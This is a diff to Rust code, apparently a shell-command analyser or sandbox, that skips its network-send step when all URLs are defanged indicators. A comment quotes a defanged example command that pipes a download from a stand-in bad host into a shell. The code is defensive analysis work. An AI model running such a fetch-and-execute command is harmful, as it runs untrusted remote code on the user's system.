@@ -15,8 +15,13 @@ pub(crate) fn urls(args: &[&str]) -> Vec<String> {
 /// a network sink.
 pub(crate) fn fetch(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, line: usize) -> Value {
     let texts: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
-    send(m, name, args, stdin, line);
     let found = urls(&texts);
+    // A defanged indicator quoted as evidence (`curl hxxps://cdn[.]bad.example/x | sh`):
+    // no client can reach it, so nothing is fetched or sent.
+    if !found.is_empty() && found.iter().all(|u| script::defanged(u)) {
+        return Value::default();
+    }
+    send(m, name, args, stdin, line);
     let url = found
         .first()
         .cloned()
